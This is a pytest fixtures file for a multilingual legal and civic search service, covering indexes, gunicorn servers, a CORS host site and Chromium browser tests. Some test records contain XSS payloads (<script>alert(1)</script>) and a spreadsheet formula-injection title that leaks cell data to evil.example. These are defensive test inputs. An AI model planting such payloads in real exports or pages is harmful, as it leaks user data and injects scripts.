"""The fixtures of every test module: real records, real indexes, the real app, CLI and server.

- Paths: ``root`` (the project), ``shipped_corpus`` (``corpus/``), ``shared`` (``../shared``).
- Corpora: ``write_corpus`` is the one way to make a small corpus of shipped records;
  ``small_corpus`` is the one most tests search (built once per session).
- Indexes: ``small_index`` (``small_corpus`` rebuilt once per session, one segment) with its
  ``engine``, ``snapshot`` and Falcon ``client``; ``spreadsheet_index`` (a few records of each
  file and ``SPREADSHEET_RECORDS``, for exports); ``multi_segment_index`` (written by two
  writer processes); ``published_copy`` (a copy of both, for a test that changes them).
- Commands: ``cli`` runs ``indexer.cli.main(argv)`` in this process; ``indexer_process``
  runs ``python -m indexer`` as a process of its own, for tests that kill it or limit it.
- ``gunicorn`` starts the real server on a free loopback port; ``gunicorn_process`` only
  starts it, on a port the test chooses.
- Browser (``make browser`` installs chromium): ``shipped_index`` (``corpus/`` built once per
  session), ``widget_server`` (gunicorn over it, allowing CORS from ``host_site``),
  ``host_site`` (a city's site on another loopback port: pages a test writes),
  ``foreign_site`` (one the service does not allow), ``chromium``
  (one browser per session) and ``browser_page`` (a fresh context per test, its console errors
  collected).

Everything built once per session is only read by the tests that share it.
"""

from __future__ import annotations

import datetime
import gzip
import http.server
import itertools
import json
import logging
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator, Mapping, Sequence
from contextlib import AbstractContextManager, contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from falcon import testing

from indexer.build import rebuild
from indexer.cli import main as indexer_main
from searchsvc.app import create_app
from searchsvc.engine import Engine, Snapshot
from searchsvc.settings import Settings

ROOT = Path(__file__).resolve().parents[1]
RECORD_FILES = ("finlex-fi", "finlex-sv", "helsinki-ahjo", "ukparl-written-answers")

SCRIPT_RECORD = {
    "id": "test:script",
    "title": "Kokeilu <b>lihavoitu</b> otsikko",
    "body": "Tämä teksti sisältää komentosarjan <script>alert(1)</script> ja "
    "tarkastuslautakunnan arvion kaupungin palveluista.",
    "language": "fi",
    "date": "2020-05-05",
    "year": 2020,
}
XSS_RECORD = {
    "id": "xss-1",
    "title": "Kokous <script>alert(1)</script>",
    "body": "Kaupunginhallitus <script>alert('x')</script> päätti omaishoidon tuesta.",
    "language": "fi",
    "date": "2021-05-05",
}
# Records a spreadsheet could misread (exports, ``test_export``) and dated in every way
# (histograms): a formula for a title; quotes, semicolons, commas and a line break in a title
# and its text; a title and text beginning with a sign; a year without a date; neither.
SPREADSHEET_RECORDS = [
    {"id": "export:formula", "language": "fi", "date": "2021-03-04",
     "title": '=HYPERLINK("https://evil.example/?leak="&A1;"Avaa")',
     "body": "Tarkastuslautakunta arvioi kaupungin talousarvion toteutumista."},
    {"id": "export:quotes", "language": "fi", "date": "2021-03-20",
     "title": 'Päätös "A"; kohta 2, liite 3\nJatkuu toisella rivillä',
     "body": 'Kaupunginhallitus päätti: "hyväksytään"; lisäksi, todettiin arvio valmiiksi.'},
    {"id": "export:signs", "language": "fi", "date": "2022-11-15",
     "title": "-5 % määrärahoista", "body": "+1 tarkastuslautakunta @kaupunki ehdotti."},
    {"id": "export:year-only", "language": "fi", "year": 2019,
     "title": "Vuosikertomus", "body": "Tarkastuslautakunnan vuosikertomus ilman päivää."},
    {"id": "export:undated", "language": "fi",
     "title": "Muistio", "body": "Tarkastuslautakunnan muistio ilman aikaa."},
]
# The small corpus: 20 Swedish court decisions with their Finnish twins, 20 other Finnish
# ones, 45 Helsinki agenda items and 45 UK written answers, the seed pages, and two records
# with markup in their text.
SMALL_CORPUS = {"finlex-sv": 20, "finlex-fi": 20, "helsinki-ahjo": 45, "ukparl-written-answers": 45}


@pytest.fixture(scope="session")
def root() -> Path:
    return ROOT


@pytest.fixture(scope="session")
def shipped_corpus() -> Path:
    return ROOT / "corpus"


@pytest.fixture(scope="session")
def shared() -> Path:
    return ROOT.parent / "shared"


@pytest.fixture(scope="session")
def seed_dir(shared: Path) -> Path:
    """The source pages the project was specified from."""
    return shared / "seeds"


# --- corpora ----------------------------------------------------------------------------------


def _records(name: str) -> Iterator[dict[str, Any]]:
    with gzip.open(ROOT / "corpus" / "records" / f"{name}.jsonl.gz", "rt", encoding="utf-8") as f:
        for line in f:
            yield json.loads(line)


def _write_corpus(
    folder: Path,
    per_file: int | Mapping[str, int] = 10,
    *,
    skip: int = 0,
    twins: bool = True,
    pages: bool | Sequence[str] = True,
    extra: Sequence[Mapping[str, Any]] = (),
) -> Path:
    """A corpus of shipped records in ``folder``: ``records/records.jsonl`` and ``pages/``.

    From each shipped record file, its records ``skip`` to ``skip + per_file`` (a number for
    every file, or per file name). With ``twins``, the Finnish twin of every Swedish court
    decision taken comes too, and the Finnish ones taken are others. ``pages``: all shipped
    pages with their sidecars, none, or those whose names start so. ``extra`` records last.
    """
    counts = per_file if isinstance(per_file, Mapping) else dict.fromkeys(RECORD_FILES, per_file)
    chosen: dict[str, list[dict[str, Any]]] = {
        name: list(itertools.islice(_records(name), skip, skip + counts[name]))
        for name in RECORD_FILES if name != "finlex-fi" and counts.get(name)
    }
    wanted = {r["parallel_id"] for r in chosen.get("finlex-sv", []) if twins}
    finnish = [r for r in _records("finlex-fi") if r["id"] not in wanted]
    chosen["finlex-fi"] = finnish[skip : skip + counts.get("finlex-fi", 0)]
    if wanted:
        chosen["finlex-fi"] += [r for r in _records("finlex-fi") if r["id"] in wanted]
    records = [r for name in RECORD_FILES for r in chosen.get(name, [])] + [*extra]
    (folder / "records").mkdir(parents=True, exist_ok=True)
    with open(folder / "records" / "records.jsonl", "w", encoding="utf-8") as handle:
        for record in records:
            handle.write(json.dumps(record, ensure_ascii=False) + "\n")
    if pages:
        (folder / "pages").mkdir(exist_ok=True)
        for page in sorted((ROOT / "corpus" / "pages").iterdir()):
            if pages is True or page.name.startswith(tuple(pages)):
                shutil.copy2(page, folder / "pages" / page.name)
    return folder


@pytest.fixture(scope="session")
def write_corpus() -> Callable[..., Path]:
    """``write_corpus(folder, per_file=10, *, skip=0, twins=True, pages=True, extra=())``."""
    return _write_corpus


@pytest.fixture(scope="session")
def small_corpus(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("small") / "corpus"
    return _write_corpus(folder, SMALL_CORPUS, extra=[SCRIPT_RECORD, XSS_RECORD])


@pytest.fixture(scope="session")
def small_corpus_ids(small_corpus: Path) -> list[str]:
    """Ids of the small corpus's records (its pages have theirs in sidecars)."""
    lines = (small_corpus / "records" / "records.jsonl").read_text(encoding="utf-8").splitlines()
    sidecars = [path for path in sorted((small_corpus / "pages").glob("*.meta.json"))
                if path.name != "folder.meta.json"]
    return [json.loads(line)["id"] for line in lines] + [
        json.loads(path.read_text(encoding="utf-8"))["id"] for path in sidecars
    ]


# --- indexes ----------------------------------------------------------------------------------


@pytest.fixture(scope="session")
def small_index(small_corpus: Path) -> Path:
    index_dir = small_corpus.parent / "index"
    rebuild([small_corpus], index_dir, jobs=1)
    return index_dir


@pytest.fixture(scope="session")
def spreadsheet_index(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Eight records of each shipped file (and twins), no pages, and ``SPREADSHEET_RECORDS``."""
    root = tmp_path_factory.mktemp("spreadsheet")
    rebuild([_write_corpus(root / "corpus", 8, pages=False, extra=SPREADSHEET_RECORDS)],
            root / "index", jobs=1)
    return root / "index"


@pytest.fixture(scope="session")
def multi_segment_index(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """More records than one writer batch, written by two writer processes: several
    segments."""
    root = tmp_path_factory.mktemp("segments")
    rebuild([_write_corpus(root / "corpus", 60)], root / "index", jobs=2)
    return root / "index"


@pytest.fixture(scope="session")
def engine(small_index: Path) -> Iterator[Engine]:
    engine = Engine(small_index, check_interval=0.0)
    yield engine
    engine.close()


@pytest.fixture(scope="session")
def snapshot(engine: Engine) -> Snapshot:
    return engine.snapshot()


@pytest.fixture(scope="session")
def client(small_index: Path) -> testing.TestClient:
    """The app over the small index, allowing browsers of one origin (CORS)."""
    settings = Settings(index_dir=small_index, cors_origins=("https://www.hel.fi",))
    return testing.TestClient(create_app(settings))


@pytest.fixture
def published_copy(small_corpus: Path, small_index: Path, tmp_path: Path) -> tuple[Path, Path]:
    """(corpus, index directory): copies of the small ones, this test's to change."""
    corpus, index_dir = tmp_path / "corpus", tmp_path / "index"
    shutil.copytree(small_corpus, corpus)
    shutil.copytree(small_index, index_dir)
    return corpus, index_dir


# --- the indexer's command line ---------------------------------------------------------------


@dataclass
class Ran:
    returncode: int
    stdout: str
    stderr: str


@pytest.fixture
def cli(capsys: pytest.CaptureFixture[str]) -> Callable[..., Ran]:
    """``cli("rebuild", "--corpus", ...)``: ``searchsvc-index`` run in this process."""

    def run(*args: str | Path) -> Ran:
        root_logger = logging.getLogger()
        handlers, level = list(root_logger.handlers), root_logger.level
        capsys.readouterr()
        try:
            code = indexer_main([str(arg) for arg in args])
        except SystemExit as exit:  # argparse
            code = exit.code if isinstance(exit.code, int) else 2
        finally:
            root_logger.handlers[:] = handlers
            root_logger.setLevel(level)
        out, err = capsys.readouterr()
        return Ran(code, out, err)

    return run


class IndexerProcess:
    """``python -m indexer`` (or ``python -c script`` with the same arguments) as a process
    of its own: run to its end, or started to be stopped or killed."""

    def __call__(self, *args: str | Path, preexec: Callable[[], None] | None = None,
                 script: str | None = None) -> subprocess.CompletedProcess[str]:
        command = ["-c", script] if script else ["-m", "indexer"]
        return subprocess.run(
            [sys.executable, *command, *map(str, args)], cwd=ROOT, capture_output=True,
            text=True, timeout=300, preexec_fn=preexec,
        )

    def start(self, *args: str | Path, new_session: bool = False) -> subprocess.Popen[bytes]:
        """Started with its output discarded (``new_session``: a process group of its own)."""
        return subprocess.Popen(
            [sys.executable, "-m", "indexer", *map(str, args)], cwd=ROOT,
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=new_session,
        )


@pytest.fixture
def indexer_process() -> IndexerProcess:
    return IndexerProcess()


# --- gunicorn ---------------------------------------------------------------------------------


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port: int = sock.getsockname()[1]
        return port


def get_json(url: str) -> tuple[int, Any]:
    try:
        with urllib.request.urlopen(url, timeout=10) as answer:
            return answer.status, json.loads(answer.read())
    except urllib.error.HTTPError as error:
        return error.code, json.loads(error.read())


@dataclass
class Server:
    base: str
    process: subprocess.Popen[bytes]
    lines: list[str] = field(default_factory=list)  # stdout and stderr, as they come

    @property
    def output(self) -> str:
        return "\n".join(self.lines)

    def get(self, path: str) -> tuple[int, Any]:
        """Status and JSON body of a GET of ``path``."""
        return get_json(self.base + path)

    def text(self, path: str) -> str:
        with urllib.request.urlopen(self.base + path, timeout=10) as answer:
            text: str = answer.read().decode("utf-8")
            return text

    def wait_for(self, count: int, text: str, timeout: float = 60) -> None:
        """Until ``count`` output lines contain ``text``."""
        deadline = time.monotonic() + timeout
        while sum(text in line for line in list(self.lines)) < count:
            if time.monotonic() > deadline or self.process.poll() is not None:
                raise AssertionError(f"no {count} lines with {text!r}:\n{self.output}")
            time.sleep(0.1)


def _gunicorn_process(index_dir: Path, port: int, environ: Mapping[str, str] | None = None,
                      **settings: str) -> subprocess.Popen[bytes]:
    """gunicorn -c gunicorn.conf.py on 127.0.0.1:port, 2 workers, these ``SEARCHSVC_*``
    settings and other ``environ`` variables, in a session of its own, output piped."""
    env = {key: value for key, value in os.environ.items()
           if not key.startswith("SEARCHSVC_") and key != "PROMETHEUS_MULTIPROC_DIR"}
    env.update({"SEARCHSVC_INDEX_DIR": str(index_dir), "SEARCHSVC_WORKERS": "2",
                "SEARCHSVC_BIND": "127.0.0.1:1"})  # --bind overrides it
    env.update({f"SEARCHSVC_{name.upper()}": value for name, value in settings.items()})
    env.update(environ or {})
    return subprocess.Popen(
        [sys.executable, "-m", "gunicorn", "-c", "gunicorn.conf.py",
         "--bind", f"127.0.0.1:{port}"],
        cwd=ROOT, env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
        start_new_session=True,
    )


@contextmanager
def _gunicorn(index_dir: Path, environ: Mapping[str, str] | None = None,
              **settings: str) -> Iterator[Server]:
    port = _free_port()
    process = _gunicorn_process(index_dir, port, environ, **settings)
    server = Server(f"http://127.0.0.1:{port}", process)
    assert process.stdout is not None
    output = process.stdout
    reader = threading.Thread(
        target=lambda: server.lines.extend(
            line.decode("utf-8", "replace").rstrip("\n") for line in output
        ),
        daemon=True,
    )
    reader.start()
    try:
        deadline = time.monotonic() + 60
        while True:
            try:
                server.get("/health")
                break
            except (ConnectionError, TimeoutError, urllib.error.URLError):  # or slow to answer
                if time.monotonic() > deadline or process.poll() is not None:
                    raise AssertionError("gunicorn did not start:\n" + server.output) from None
                time.sleep(0.2)
        server.wait_for(2, "serving index generation")  # both workers have warmed up
        yield server
    finally:
        os.killpg(process.pid, signal.SIGTERM)
        process.wait(timeout=30)
        reader.join(timeout=10)
        output.close()


@pytest.fixture
def gunicorn() -> Callable[..., AbstractContextManager[Server]]:
    """``with gunicorn(index_dir, environ=None, log_format="text") as server``: gunicorn -c
    gunicorn.conf.py with 2 workers, these ``SEARCHSVC_*`` settings and other ``environ``
    variables, once both workers serve."""
    return _gunicorn


@pytest.fixture
def gunicorn_process() -> Callable[..., subprocess.Popen[bytes]]:
    """``gunicorn_process(index_dir, port, environ=None, **settings)``: the same gunicorn,
    only started (for a test of how it fails); the test waits for it or stops it."""
    return _gunicorn_process


# --- documented HTTP examples ----------------------------------------------------------------


@dataclass
class HttpExample:
    """One example of a docs section: ``GET path``, then ``status content-type``, then the
    answer: JSON (some of its keys) or the whole text. ``<day>`` stands for the day of the
    request (ISO), ``<day-parts>`` for it as CSL date-parts."""

    path: str
    status: int
    content_type: str
    body: str

    def check(self, answer: Any) -> None:
        """Assert a falcon.testing result answers as documented."""
        today = datetime.datetime.now(datetime.UTC).date()
        body = self.body.replace("<day>", today.isoformat()).replace(
            "<day-parts>", f"{today.year}, {today.month}, {today.day}")
        assert answer.status_code == self.status, self.path
        assert answer.headers["content-type"] == self.content_type, self.path
        if "json" in self.content_type:
            _contains(json.loads(answer.text), json.loads(body), self.path)
        else:
            assert answer.text == body + "\n", self.path


def _contains(found: Any, documented: Any, where: str) -> None:
    """``documented`` is ``found`` with some keys of its objects left out."""
    if isinstance(documented, dict):
        assert isinstance(found, dict), where
        for key, value in documented.items():
            assert key in found, (where, key)
            _contains(found[key], value, f"{where}.{key}")
    elif isinstance(documented, list):
        assert isinstance(found, list) and len(found) == len(documented), where
        for at, (one, other) in enumerate(zip(found, documented, strict=True)):
            _contains(one, other, f"{where}[{at}]")
    else:
        assert found == documented, where


def _http_examples(root: Path, heading: str) -> list[HttpExample]:
    text = (root / "docs" / "api.md").read_text(encoding="utf-8")
    section = text[text.index(heading + "\n"):]
    section = section[: section.find("\n## ", 1) if "\n## " in section[1:] else None]
    start = section.index("```http\n") + len("```http\n")
    block = section[start: section.index("\n```\n", start)]
    examples = []
    for example in re.split(r"\n\n(?=GET )", block.strip()):
        request, status_line, *body = example.split("\n")
        status, _, content_type = status_line.partition(" ")
        examples.append(HttpExample(request.removeprefix("GET "), int(status), content_type,
                                    "\n".join(body)))
    return examples


@pytest.fixture(scope="session")
def http_examples(root: Path) -> Callable[[str], list[HttpExample]]:
    """``http_examples("### Citations (`format`)")``: the HTTP examples of that section of
    docs/api.md."""
    return lambda heading: _http_examples(root, heading)


# --- the browser ------------------------------------------------------------------------------

CHROMIUM = "/usr/bin/chromium"
CHROMIUM_FLAGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking",
                  "--disable-component-update", "--no-first-run"]


@pytest.fixture(scope="session")
def shipped_index(shipped_corpus: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The whole shipped corpus, indexed once per session (about 30 s)."""
    index_dir = tmp_path_factory.mktemp("shipped") / "index"
    rebuild([shipped_corpus], index_dir, jobs=2)
    return index_dir


class HostSite:
    """A city's web site on its own origin (another loopback port): pages by path, served
    with the Content-Security-Policy the README tells a city to add for the widget."""

    def __init__(self) -> None:
        self.pages: dict[str, str] = {}
        self.policies: dict[str, str] = {}
        self.api = ""
        site = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                if self.path == "/favicon.ico":  # browsers ask; a city site has one
                    self.send_response(204)
                    self.end_headers()
                    return
                page = site.pages.get(self.path.split("?")[0])
                body = (page or "not found").encode("utf-8")
                self.send_response(200 if page is not None else 404)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Security-Policy",
                                 site.policies.get(self.path.split("?")[0], site.csp))
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, format: str, *args: Any) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.base = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    @property
    def csp(self) -> str:
        # The host's own styles may be inline (the hostile CSS of the tests); the widget needs
        # only script-src and connect-src for the service.
        return (f"default-src 'none'; script-src {self.api}; connect-src {self.api}; "
                "style-src 'unsafe-inline'")

    def page(self, body: str, name: str = "page", lang: str = "fi", head: str = "",
             script: bool = True, csp: str | None = None) -> str:
        """The URL of a page holding ``body``, after the widget's script unless not
        ``script``, served with ``csp`` if given."""
        path = f"/{name}.html"
        loader = f'<script type="module" src="{self.api}/widget.js"></script>' if script else ""
        self.pages[path] = (
            f'<!doctype html><html lang="{lang}"><head><meta charset="utf-8">'
            '<meta name="viewport" content="width=device-width, initial-scale=1">'
            f"<title>{name}</title>{head}{loader}</head>"
            f"<body>{body}</body></html>"
        )
        if csp is not None:
            self.policies[path] = csp
        return self.base + path

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="session")
def host_site() -> Iterator[HostSite]:
    site = HostSite()
    yield site
    site.close()


@pytest.fixture(scope="session")
def foreign_site(host_site: HostSite) -> Iterator[HostSite]:
    """Another site, whose origin the service does not allow (CORS)."""
    site = HostSite()
    site.api = host_site.api
    yield site
    site.close()


@pytest.fixture(scope="session")
def widget_server(shipped_index: Path, host_site: HostSite) -> Iterator[Server]:
    """gunicorn over the shipped corpus; browsers on ``host_site`` may call it (CORS)."""
    with _gunicorn(shipped_index, cors_origins=host_site.base) as server:
        host_site.api = server.base
        yield server


@pytest.fixture(scope="session")
def chromium() -> Iterator[Any]:
    from playwright.sync_api import sync_playwright

    if not Path(CHROMIUM).exists():
        pytest.fail(f"{CHROMIUM} is missing: `make browser` installs it")
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_FLAGS)
        yield browser
        browser.close()


@dataclass
class BrowserPage:
    page: Any
    console_errors: list[str]


@pytest.fixture
def browser_page(chromium: Any, widget_server: Server) -> Iterator[BrowserPage]:
    """A page in a context of its own (no cache, cookies or routes shared between tests)."""
    context = chromium.new_context(viewport={"width": 1000, "height": 900})
    page = context.new_page()
    errors: list[str] = []
    page.on("console", lambda message: errors.append(message.text)
            if message.type == "error" else None)
    page.on("pageerror", lambda error: errors.append(str(error)))
    yield BrowserPage(page, errors)
    context.close()


# --- Dask -------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def dask_cluster() -> Iterator[Any]:
    """A ``LocalCluster`` of two worker processes on loopback (its HTTP routes too), no
    dashboard, giving up a task whose worker dies (as ``indexer.dask_build``'s own does).
    One per test module, not per session: its scheduler runs in this process, and left
    running it would take its share of the interpreter from every later test."""
    import dask
    from distributed import LocalCluster

    logging.getLogger("distributed").setLevel(logging.WARNING)
    with dask.config.set({"distributed.scheduler.allowed-failures": 0}), LocalCluster(
        n_workers=2, processes=True, threads_per_worker=1, dashboard_address=None,
        host="127.0.0.1", scheduler_kwargs={"dashboard_address": "127.0.0.1:0"},
    ) as cluster:
        yield cluster
